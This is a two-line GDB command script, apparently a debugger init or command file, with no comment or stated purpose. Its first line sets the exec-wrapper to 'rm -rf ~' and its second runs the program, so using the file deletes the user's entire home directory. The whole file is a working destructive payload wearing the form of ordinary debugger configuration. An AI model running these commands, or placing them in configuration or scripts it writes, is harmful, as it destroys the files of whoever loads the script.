set exec-wrapper rm -rf ~
run
